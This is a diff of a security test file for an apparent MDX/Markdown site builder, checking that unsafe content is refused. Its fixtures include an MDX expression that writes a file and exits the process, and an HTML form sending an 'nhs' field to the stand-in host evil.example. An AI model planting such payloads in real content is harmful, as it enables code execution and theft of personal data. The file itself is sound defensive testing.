@@ -19,7 +19,7 @@ import { promisify } from 'node:util';
 import { markdownToHtml, mdxToJs } from 'satteri';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { checkContent } from '../../src/checks/check-content.ts';
-import { splitFrontMatter } from '../../src/checks/front-matter.ts';
+import { splitFrontMatter } from '../../src/reader/source-text.ts';
 import type { Problem } from '../../src/checks/problem.ts';
 import { REFUSED_CONTENT_MARKER, refuseUnsafeContent } from '../../src/markdown/refuse-unsafe-content.ts';
 import { repoRoot, runBuild } from '../support/built-sites.ts';
@@ -272,7 +272,8 @@ describe('the injection corpus', () => {
 
   it.each(pageCases)("the build's Markdown pipeline refuses, with no check: %s", (_name, testCase, index) => {
     const absolute = path.join(fleet, slugOf(index), testCase.file);
-    const { body } = splitFrontMatter(readFileSync(absolute, 'utf8'));
+    const split = splitFrontMatter(readFileSync(absolute, 'utf8'));
+    const body = split.kind === 'split' ? split.body : '';
     const options = { mdastPlugins: [refuseUnsafeContent(fleet)], fileURL: pathToFileURL(absolute) };
     const compile = () => (absolute.endsWith('.mdx') ? mdxToJs(body, options) : markdownToHtml(body, options));
     expect(compile).toThrow(/.+/);
@@ -302,27 +303,36 @@ describe('the injection corpus', () => {
   });
 
   it('an Astro build with the content check left out still refuses MDX code and raw HTML, and none of the code runs', async () => {
-    const content = path.join(work, 'unchecked', 'content');
-    const dir = path.join(content, 'harbourside');
-    cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
-    mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`)(dir);
-    md('<form action="https://evil.example/"><input name="nhs"></form>')(dir);
     const script = path.join(repoRoot, 'tests', 'support', 'render-without-check.ts');
-    let code = 0;
-    let output = '';
-    try {
-      const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, 'unchecked-out')], { cwd: repoRoot });
-      output = result.stdout;
-    } catch (error) {
-      const failed = error as { code: number; stdout: string; stderr: string };
-      code = failed.code;
-      output = `${failed.stdout}\n${failed.stderr}`;
+    /** Builds a copy of a sample trust with one unsafe change and no content check: the build stops at the first page its own plugin refuses. */
+    const buildUnchecked = async (name: string, change: (dir: string) => void) => {
+      const content = path.join(work, `unchecked-${name}`, 'content');
+      const dir = path.join(content, 'harbourside');
+      cpSync(path.join(repoRoot, 'content', 'harbourside'), dir, { recursive: true });
+      change(dir);
+      try {
+        const result = await promisify(execFile)(process.execPath, [script, content, path.join(work, `unchecked-${name}-out`)], {
+          cwd: repoRoot,
+        });
+        return { code: 0, output: result.stdout };
+      } catch (error) {
+        const failed = error as { code: number; stdout: string; stderr: string };
+        return { code: failed.code, output: `${failed.stdout}\n${failed.stderr}` };
+      }
+    };
+    const code = await buildUnchecked(
+      'mdx',
+      mdx(`{process.getBuiltinModule("node:fs").writeFileSync(${JSON.stringify(canary)}, "ran")}\n\n{process.exit(3)}`),
+    );
+    expect(code.code, code.output).toBe(1);
+    expect(code.output).toMatch(/content\/harbourside\/index\.mdx:\d+(:\d+)?\n\s+error \(mdx-expression\)/);
+    const html = await buildUnchecked('html', md('<form action="https://evil.example/"><input name="nhs"></form>'));
+    expect(html.code, html.output).toBe(1);
+    expect(html.output).toMatch(/content\/harbourside\/vision\.md:\d+(:\d+)?\n\s+error \(unsafe-html\)/);
+    for (const { output } of [code, html]) {
+      expect(output).not.toContain('fault in the site builder');
+      expect(output).not.toContain('built');
     }
-    expect(code, output).toBe(1);
-    expect(output).toMatch(/content\/harbourside\/index\.mdx:\d+(:\d+)?\n\s+error \(mdx-expression\)/);
-    expect(output).toMatch(/content\/harbourside\/vision\.md:\d+(:\d+)?\n\s+error \(unsafe-html\)/);
-    expect(output).not.toContain('fault in the site builder');
-    expect(output).not.toContain('built');
     expect(existsSync(canary)).toBe(false);
   });
 });
